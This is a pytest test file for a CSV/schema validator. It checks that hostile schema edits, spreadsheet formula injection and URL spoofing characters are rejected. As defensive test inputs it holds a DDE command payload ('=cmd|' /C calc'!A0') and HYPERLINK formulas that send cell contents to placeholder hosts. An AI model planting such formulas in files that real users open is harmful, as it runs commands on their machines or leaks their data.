"""Hostile pull requests, schemas: the contract's protections do not depend on the schema that
comes with the rows. A relaxed constraint is a schema-error, and the formula rule covers every
text cell, columns the schema adds included."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import MakeRoot
from hypothesis import given, settings
from hypothesis import strategies as st
from roots import CLAIMS, SOURCES, locations, read_rows, set_cell, write_rows

from validate.errors import InvalidData
from validate.publishing.build import build
from validate.publishing.query import query
from validate.reading.table_schema import TableSchema
from validate.rules.check import check
from validate.rules.contract import CONTRACT, relaxations

SCHEMA = "schema/claims.schema.json"


def _edit_schema(root: Path, change: Callable[[dict[str, Any]], None]) -> None:
    path = root / SCHEMA
    schema = json.loads(path.read_text(encoding="utf-8"))
    change(schema)
    path.write_text(json.dumps(schema), encoding="utf-8")


def _field(schema: dict[str, Any], name: str) -> dict[str, Any]:
    field: dict[str, Any] = next(f for f in schema["fields"] if f["name"] == name)
    return field


def _loosen_pattern(schema: dict[str, Any]) -> None:
    _field(schema, "claim_id")["constraints"]["pattern"] = ".*"


def _drop_required(schema: dict[str, Any]) -> None:
    del _field(schema, "quote")["constraints"]["required"]


def _value_as_string(schema: dict[str, Any]) -> None:
    _field(schema, "value")["type"] = "string"


def _widen_enum(schema: dict[str, Any]) -> None:
    _field(schema, "qualifier")["constraints"]["enum"].append("whatever")


def _lengthen_quote(schema: dict[str, Any]) -> None:
    _field(schema, "quote")["constraints"]["maxLength"] = 10**9


def _drop_note_length(schema: dict[str, Any]) -> None:
    del _field(schema, "note")["constraints"]["maxLength"]


def _lengthen_counted_as(schema: dict[str, Any]) -> None:
    _field(schema, "counted_as")["constraints"]["maxLength"] = 200_000


def _hide_formulas(schema: dict[str, Any]) -> None:
    schema["missingValues"] = ["", "=cmd|' /C calc'!A0"]


def _drop_primary_key(schema: dict[str, Any]) -> None:
    del schema["primaryKey"]


@pytest.mark.parametrize(
    ("change", "column"),
    [
        (_loosen_pattern, "claim_id"),
        (_drop_required, "quote"),
        (_value_as_string, "value"),
        (_widen_enum, "qualifier"),
        (_lengthen_quote, "quote"),
        # Every text a page shows is bounded: a 200,000-character title cited 100 times made a 77 MB page.
        (_drop_note_length, "note"),
        (_lengthen_counted_as, "counted_as"),
        (_hide_formulas, None),
        (_drop_primary_key, None),
    ],
)
def test_a_schema_that_relaxes_the_contract_is_a_schema_error(
    make_root: MakeRoot, change: Callable[[dict[str, Any]], None], column: str | None
) -> None:
    root = make_root()
    _edit_schema(root, change)
    assert (SCHEMA, None, column, "schema-error") in locations(check(root))


def test_a_sources_schema_without_the_title_s_length_is_a_schema_error(make_root: MakeRoot) -> None:
    root = make_root()
    path = root / "schema" / "sources.schema.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    del _field(schema, "title")["constraints"]["maxLength"]
    path.write_text(json.dumps(schema), encoding="utf-8")
    found = [f for f in check(root) if f.check == "schema-error"]
    assert [(f.file, f.column) for f in found] == [("schema/sources.schema.json", "title")]
    assert "its maxLength is None, where the contract fixes 500" in found[0].message


def test_a_relaxed_id_pattern_still_lets_no_formula_through(make_root: MakeRoot) -> None:
    root = make_root()
    _edit_schema(root, _loosen_pattern)
    set_cell(root, CLAIMS, 2, "claim_id", '=HYPERLINK("http://x.example/?"&A1)')
    found = locations(check(root))
    assert (SCHEMA, None, "claim_id", "schema-error") in found
    assert (CLAIMS, 2, "claim_id", "formula-injection") in found


def test_a_tightened_schema_is_no_schema_error(make_root: MakeRoot) -> None:
    root = make_root()
    _edit_schema(root, lambda s: _field(s, "note")["constraints"].update(maxLength=100))
    assert [f for f in check(root) if f.check == "schema-error"] == []


def test_a_column_the_schema_adds_is_checked_for_formulas(make_root: MakeRoot) -> None:
    root = make_root()
    _edit_schema(root, lambda s: s["fields"].append({"name": "comment", "type": "string"}))
    rows = read_rows(root / CLAIMS)
    rows[0].append("comment")
    for row in rows[1:]:
        row.append("")
    rows[1][-1] = "@SUM(1+1)*cmd"
    write_rows(root / CLAIMS, rows)
    assert locations(check(root)) == [(CLAIMS, 2, "comment", "formula-injection")]


@pytest.mark.parametrize("start", ["\t", "\r", "=", "+", "-", "@"])
def test_a_value_text_that_begins_like_a_formula_is_refused(make_root: MakeRoot, start: str) -> None:
    root = make_root()
    rows = read_rows(root / CLAIMS)
    value_text = rows[1][rows[0].index("value_text")]
    set_cell(root, CLAIMS, 2, "value_text", start + value_text)
    assert (CLAIMS, 2, "value_text", "formula-injection") in locations(check(root))


def test_the_contract_declares_the_v2_tables_too() -> None:
    loose = TableSchema.model_validate(
        {
            "fields": [
                {"name": "relation_id", "type": "string"},
                {"name": "relation", "type": "string", "constraints": {"required": True}},
            ],
            "primaryKey": ["relation_id"],
        }
    )
    problems = relaxations("relations", loose)
    assert [c for c, _ in problems] == ["relation_id", "relation_id", "relation"]
    assert {"occurrence", "reason"} <= set(CONTRACT["exclusions"])


# --- schemas that passed the check and stopped the build -------------------------------------


def _edit_table_schema(root: Path, table: str, change: Callable[[dict[str, Any]], None]) -> None:
    path = root / f"schema/{table}.schema.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    change(schema)
    path.write_text(json.dumps(schema), encoding="utf-8")


def _add_column(root: Path, table: str, name: str, value: str = "") -> None:
    """A string field `name` added to `table`'s schema and CSV, `value` in every row."""
    _edit_table_schema(root, table, lambda s: s["fields"].append({"name": name, "type": "string"}))
    path = root / f"datasets/{table}.csv"
    rows = read_rows(path)
    write_rows(path, [[*rows[0], name], *([*row, value] for row in rows[1:])])


def _refused_by_check_and_build(root: Path) -> list[tuple[str, int | None, str | None, str]]:
    """The check's findings; the build refuses the same root with them, never an internal error."""
    found = locations(check(root))
    with pytest.raises(InvalidData):
        build(root)
    return found


def test_a_foreign_key_the_contract_does_not_declare_is_a_schema_error(make_root: MakeRoot) -> None:
    # The check enforces the contract's keys; the database, built with the schema's, refused
    # the rows of one on note (to the claims' note, not a key) with an internal error.
    root = make_root()
    _edit_table_schema(
        root,
        "exclusions",
        lambda s: s["foreignKeys"].append(
            {"fields": ["note"], "reference": {"resource": "claims", "fields": ["note"]}}
        ),
    )
    found = _refused_by_check_and_build(root)
    assert found == [("schema/exclusions.schema.json", None, None, "schema-error")]
    [finding] = check(root)
    assert "foreign key (note) to claims (note), which the contract does not" in finding.message


def test_a_foreign_key_to_the_table_itself_is_a_schema_error(make_root: MakeRoot) -> None:
    root = make_root()
    _edit_table_schema(
        root,
        "claims",
        lambda s: s["foreignKeys"].append(
            {"fields": ["claim_id"], "reference": {"resource": "", "fields": ["claim_id"]}}
        ),
    )
    [finding] = check(root)
    assert finding.check == "schema-error" and "to itself (claim_id)" in finding.message


def test_an_empty_cell_of_a_primary_key_is_a_constraint_error(make_root: MakeRoot) -> None:
    # Table Schema makes a key's fields required; the database's key refuses an empty one.
    root = make_root()
    _edit_table_schema(root, "exclusions", lambda s: s.update(primaryKey=["source_id", "text", "occurrence", "note"]))
    set_cell(root, "datasets/exclusions.csv", 3, "note", "")
    found = _refused_by_check_and_build(root)
    assert found == [("datasets/exclusions.csv", 3, "note", "constraint-error")]
    [finding] = check(root)
    assert "part of the primary key" in finding.message


@pytest.mark.parametrize(
    ("table", "name", "derived"),
    [("claims", "quote_start", "quote_start"), ("sources", "Published_From", "published_from")],
)
def test_a_field_named_like_a_derived_column_is_a_schema_error(
    make_root: MakeRoot, table: str, name: str, derived: str
) -> None:
    # quote_start stopped the build; published_from was replaced by the derived date unseen.
    root = make_root()
    _add_column(root, table, name)
    found = _refused_by_check_and_build(root)
    assert found == [(f"schema/{table}.schema.json", None, name, "schema-error")]
    [finding] = check(root)
    assert f"the column {derived!r} that the database derives" in finding.message


def test_two_fields_named_alike_but_for_case_are_a_schema_error(make_root: MakeRoot) -> None:
    root = make_root()
    _add_column(root, "claims", "NOTE")
    [finding] = _refused_by_check_and_build(root) and check(root)
    assert finding.check == "schema-error" and "but for its case" in finding.message


@pytest.mark.parametrize("name", ["no\x00te", "line\nbreak", "zero\u200bwidth"])
def test_a_field_name_with_a_control_character_is_a_schema_error(make_root: MakeRoot, name: str) -> None:
    # A NUL in a field's name made polars panic, which no `except Exception` catches.
    root = make_root()
    _add_column(root, "claims", name)
    [finding] = _refused_by_check_and_build(root) and check(root)
    assert finding.check == "schema-error" and "control or invisible characters" in finding.message


@pytest.mark.parametrize("name", ['=HYPERLINK("http://example.invalid/?"&A2,"click")', "+1", "-x", "@SUM(A1)"])
def test_a_field_name_that_begins_like_a_formula_is_a_schema_error(make_root: MakeRoot, name: str) -> None:
    """The header is a row a spreadsheet opens too: the zip's CSVs and `claims sql --format csv`
    carried such a name as it was, past the formula rule of every cell."""
    root = make_root()
    _add_column(root, "relations", name)
    [finding] = _refused_by_check_and_build(root) and check(root)
    assert finding.check == "schema-error" and "may not begin like a spreadsheet formula" in finding.message


@pytest.mark.parametrize(
    "value", [{"unique": "no"}, {"required": "yes"}, {"minimum": "5"}, {"maxLength": 1e2}, {"minimum": True}]
)
def test_a_constraint_of_the_wrong_json_type_is_a_schema_error(make_root: MakeRoot, value: dict[str, Any]) -> None:
    # Read leniently, "yes" was true and "5" was 5 here, while Frictionless, reading the
    # published package, refused them (and crashed on a minimum of true).
    root = make_root()
    _edit_schema(root, lambda s: _field(s, "note").setdefault("constraints", {}).update(value))
    [finding] = check(root)
    assert finding.check == "schema-error" and "Input should be a valid" in finding.message


@pytest.mark.parametrize(("table", "name"), [("claims", "unit"), ("claims", "t"), ("relations", "a_high")])
def test_a_column_named_like_a_view_s_own_changes_no_view(make_root: MakeRoot, table: str, name: str) -> None:
    # claim_intervals read claims.*: an added "t" stopped the build (two columns named t); "unit",
    # the other name it adds beside the claims' own, is held to the same. relation_checks named
    # its own a_high unqualified beside the relations' columns: ambiguous.
    root, plain = make_root(), make_root()
    _add_column(root, table, name, "x")
    build(root)
    build(plain)
    for view in ("claim_intervals", "relation_checks"):
        ask = f"SELECT * FROM {view} ORDER BY ALL"
        assert query(root, ask) == query(plain, ask)


@pytest.mark.parametrize(("table", "names"), [("sources", ["seen", "seen_start"]), ("statistics", ["primary_period"])])
def test_two_date_fields_that_derive_one_column_are_a_schema_error(
    make_root: MakeRoot, table: str, names: list[str]
) -> None:
    # seen and seen_start both derive seen_from; primary_period derives primary_period_from
    # beside primary_period_start's. Each stopped the build with an internal error.
    root = make_root()
    date = {"pattern": "[0-9]{4}(-[0-9]{2}(-[0-9]{2})?)?"}
    for name in names:
        _add_column(root, table, name, "2019")
        _edit_table_schema(root, table, lambda s, name=name: _field(s, name).update(constraints=date))
    found = _refused_by_check_and_build(root)
    assert {f[3] for f in found} == {"schema-error"}
    assert all("derives too: rename the field" in f.message for f in check(root))


def test_unreadable_numbers_in_a_key_are_no_duplicates_of_each_other(make_root: MakeRoot) -> None:
    # Keys compare numbers by value; two cells that read as no number (each a type-error) are
    # not one key unless they are the same text, and 02 still repeats 2.
    root = make_root()
    path = root / "datasets/exclusions.csv"
    extra = ["x", "y", "99999999999999999998", "99999999999999999999"]
    rows = read_rows(path)
    write_rows(path, [*rows, *(["county-report", "2016", o, "date", ""] for o in extra)])
    found = [(row, code) for _, row, _, code in locations(check(root)) if code in ("primary-key", "type-error")]
    assert found == [(n, "type-error") for n in range(len(rows) + 1, len(rows) + 5)]


def test_a_schema_without_a_contract_column_no_rule_reads_is_a_schema_error(make_root: MakeRoot) -> None:
    # No rule of sources reads source_id itself: a schema and CSV without it checked valid, and
    # the build stopped on the foreign keys that name it.
    root = make_root()
    _edit_table_schema(
        root,
        "sources",
        lambda s: s.update(fields=[f for f in s["fields"] if f["name"] != "source_id"], primaryKey=[]),
    )
    path = root / "datasets/sources.csv"
    rows = read_rows(path)
    at = rows[0].index("source_id")
    write_rows(path, [[cell for i, cell in enumerate(row) if i != at] for row in rows])
    found = _refused_by_check_and_build(root)
    assert ("schema/sources.schema.json", None, "source_id", "schema-error") in found


def test_a_schema_or_descriptor_frictionless_cannot_read_is_a_finding(
    make_root: MakeRoot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Frictionless's reading raising (no input found to make it do so) is a finding, never an
    internal error."""
    import frictionless

    def broken(*_: object) -> object:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(frictionless.Schema, "metadata_validate", broken)
    monkeypatch.setattr(frictionless.Package, "metadata_validate", broken)
    found = {(f.file, f.check) for f in check(make_root())}
    assert ("schema/claims.schema.json", "schema-error") in found
    assert ("datapackage.json", "package-error") in found


@pytest.mark.parametrize(
    ("pattern", "said"),
    [
        ("\\p{L}.*", "bad escape \\p"),  # Rust's Unicode class; an error in Python's re
        (".*\\z", "bad escape \\z"),
        ("(?<x>.)(.*)", "unknown extension"),
        ("[[:alpha:]].*", "Possible nested set"),  # a class in Rust, a set then "]" in Python
        ("[a-z&&[^aeiou]].*", "Possible set intersection"),
        ("\\s*.*", "uses '\\\\s'"),  # Python's \s holds \x1c-\x1f, Rust's does not
        ("\\w.*", "uses '\\\\w'"),
        ("[0-9]\\b.*", "uses '\\\\b'"),
        ("[^[~]]+", "a '[' inside a character class"),  # "not ~" in Rust; "not [ or ~, then ]" in Python
        ("\\<.*", "uses '\\\\<'"),  # a word boundary in Rust, a literal < in Python
        ("a*+.*", "uses '*+'"),  # a repeat of a repeat in Rust, possessive in Python
    ],
)
def test_a_pattern_frictionless_reads_otherwise_is_a_schema_error(make_root: MakeRoot, pattern: str, said: str) -> None:
    """A tightening the check's engine (Rust's regex) ran, while CI's `frictionless validate`
    (Python's re) refused the schema or the cells: the check passed where Frictionless failed."""
    root = make_root()
    _edit_schema(root, lambda s: _field(s, "note").setdefault("constraints", {}).update(pattern=pattern))
    [finding] = check(root)
    assert (finding.file, finding.check) == (SCHEMA, "schema-error")
    assert said in finding.message, finding.message


def test_a_pattern_both_engines_read_alike_is_no_schema_error(make_root: MakeRoot) -> None:
    root = make_root()
    _edit_schema(
        root, lambda s: _field(s, "note").setdefault("constraints", {}).update(pattern="(?:[A-Za-z0-9 ,.()'-]|\\\\)*")
    )
    assert [f for f in check(root) if f.check == "schema-error"] == []


@pytest.mark.parametrize(
    "control",
    [
        *("\x1c", "\x1f", "\x7f", "\x85", "\u2028", "\u202e", "\u2066", "\u200b", "\u200f", "\u061c", "\ufeff"),
        # Default-ignorable: shown as nothing, so www.dhs.gov\xad.example.net reads as dhs.gov.
        *("\xad", "\u034f", "\u115f", "\u3164", "\u180e", "\ufe0f", "\uffa0", "\U000e0041"),
    ],
)
def test_a_url_with_a_control_or_space_character_is_a_constraint_error(make_root: MakeRoot, control: str) -> None:
    """Python's \\s (Frictionless) holds \\x1c-\\x1f, Rust's (the check) did not: such a URL checked valid."""
    root = make_root()
    set_cell(root, SOURCES, 2, "url", f"https://a.example/{control}b")
    assert (SOURCES, 2, "url", "constraint-error") in locations(check(root))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=12))
def test_a_url_the_check_passes_frictionless_passes(tail: str) -> None:
    import re

    import polars as pl

    from validate.rules.contract import URL

    cell = "https://a.example/" + tail
    rust = pl.Series([cell]).str.contains(f"^(?:{URL})$").item()
    # Valid in the check, valid in Frictionless; Python's $ also matches before a final newline,
    # so there the check is the stricter of the two.
    assert not rust or re.compile(f"^{URL}$").match(cell)
    assert rust or not re.compile(f"^{URL}$").match(cell) or cell.endswith("\n")


@pytest.mark.parametrize(
    ("pattern", "positions"),
    [
        ("[ab]*a[ab]{300}", 302),  # a lazy automaton of 2^300 states: Rust's regex ran 1 s per MB of cells
        ("(?:[ab]{15}[ab]*){13}", 13 * 16),  # a counted repeat of a group counts its body that many times
        ("|".join(f"{n:03d}" for n in range(0, 1000, 14)), 72 * 3),  # each alternative counts
        ("(?:ab){100,}c", 101 * 2 + 1),  # an open repeat counts its least, once more
    ],
)
def test_a_pattern_too_large_to_run_on_every_cell_is_a_schema_error(
    make_root: MakeRoot, pattern: str, positions: int
) -> None:
    """16 alternatives like the first on a note's pattern made a check of 1,000 claims take 74 s:
    the cost per character of a cell grows with the pattern's size once its repeats are written out."""
    root = make_root()
    _edit_schema(root, lambda s: _field(s, "note").setdefault("constraints", {}).update(pattern=pattern))
    [finding] = check(root)
    assert (finding.file, finding.check) == (SCHEMA, "schema-error")
    assert f"has {positions} positions" in finding.message, finding.message


def test_a_pattern_of_the_largest_size_allowed_is_no_schema_error(make_root: MakeRoot) -> None:
    root = make_root()
    _edit_schema(
        root, lambda s: _field(s, "note").setdefault("constraints", {}).update(pattern="(?:[A-Za-z0-9 ,.]{0,199})?$")
    )
    assert [f for f in check(root) if f.check == "schema-error"] == []


def _row_of(root: Path, claim_id: str) -> int:
    """The claim's row as findings number it (the header is row 1)."""
    return next(n for n, r in enumerate(read_rows(root / "datasets/claims.csv"), start=1) if r[0] == claim_id)


@pytest.mark.parametrize(
    ("bound", "cell", "refused"),
    [
        ({"maximum": 2400000}, "2400000.00000000000000001", True),  # a double rounds it to the bound
        ({"maximum": 2400000}, "2400000.000", False),
        ({"minimum": 2400000}, "2399999.99999999999999999", True),
        ({"minimum": 2400000}, "2400000", False),
        ({"maximum": 0.1}, "0.10000000000000001", True),  # a float bound is its repr, as Frictionless reads it
    ],
)
def test_a_number_a_double_puts_on_its_bound_is_judged_by_its_digits(
    make_root: MakeRoot, bound: dict[str, float], cell: str, refused: bool
) -> None:
    """Frictionless compares a cell's exact decimal value with an added minimum or maximum: the
    check, comparing doubles, passed what `frictionless validate` of the package refuses."""
    root = make_root()
    _edit_schema(root, lambda s: _field(s, "value")["constraints"].update(bound))
    row = _row_of(root, "county-docket-2-4m")
    set_cell(root, CLAIMS, row, "value", cell)
    found = [(r, c) for _, r, c, code in locations(check(root)) if code == "constraint-error" and c == "value"]
    assert ((row, "value") in found) is refused  # other rows are below a minimum of 2400000


def test_zero_and_minus_zero_are_one_value_of_a_unique_number_column(make_root: MakeRoot) -> None:
    """-0 is 0 to Frictionless and to the database's key; as text the two differed, and passed."""
    root = make_root()
    _edit_schema(root, lambda s: _field(s, "value")["constraints"].update(unique=True))
    first, second = _row_of(root, "county-arrests-150"), _row_of(root, "county-released-quarter")
    set_cell(root, CLAIMS, first, "value", "0")
    set_cell(root, CLAIMS, second, "value", "-0")
    found = [(r, c) for _, r, c, code in locations(check(root)) if code == "unique-error"]
    assert (max(first, second), "value") in found  # (the fixture cites 1234 twice, too)


@pytest.mark.parametrize("name", ["label", "turn", "number", "published_from", "row"])
def test_a_claims_column_named_like_a_site_query_s_own_changes_no_order(make_root: MakeRoot, name: str) -> None:
    """The site's orders (which citation a page shows first, and which it leaves out past its
    hundred) joined claims.* with columns of their own: an added `label` stopped the build
    (ambiguous), and an added `turn` or `number`, its cells counting down, took the place of the
    query's own (DuckDB renamed that one `turn_1`) and ordered the citations as the rows said."""
    from validate.publishing.site.content import CITATION_ORDER, SOURCE_CLAIM_ORDER

    root, plain = make_root(), make_root()
    _add_column(root, "claims", name)
    path = root / "datasets/claims.csv"
    rows = read_rows(path)
    write_rows(path, [rows[0], *([*row[:-1], str(len(rows) - n)] for n, row in enumerate(rows[1:], 1))])
    build(root)
    build(plain)
    for order, place in ((CITATION_ORDER, "_number"), (SOURCE_CLAIM_ORDER, "row")):
        ask = f"SELECT claim_id, {place} FROM ({order.format(where='')}) ORDER BY ALL"
        assert query(root, ask) == query(plain, ask)


def _with_columns_added(root: Path, k: int) -> None:
    """k text columns added to claims.csv and its schema, every cell empty."""
    _edit_schema(root, lambda s: s["fields"].extend({"name": f"x{i}", "type": "string"} for i in range(k)))
    rows = read_rows(root / CLAIMS)
    write_rows(root / CLAIMS, [rows[0] + [f"x{i}" for i in range(k)], *(r + [""] * k for r in rows[1:])])


def test_the_checks_work_grows_with_the_columns_a_schema_adds_not_their_square(
    make_root: MakeRoot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The column names the check reads off its frames, summed over every time it asks: a check
    that asked once a column for all the names (profile_columns, early_rules) read k times k, and
    10,000 added columns took 21 s (3.7 s now). Counted, never timed."""
    import polars as pl

    read = [0]
    columns = pl.DataFrame.columns

    def counted(frame: pl.DataFrame) -> list[str]:
        names = columns.fget(frame)  # type: ignore[attr-defined]
        read[0] += len(names)
        return names

    monkeypatch.setattr(pl.DataFrame, "columns", property(counted, columns.fset))  # type: ignore[attr-defined]
    work = {}
    for k in (500, 1000):
        root = make_root()
        _with_columns_added(root, k)
        read[0] = 0
        assert list(check(root)) == []
        work[k] = read[0]
    assert work[1000] < 2.5 * work[500], work
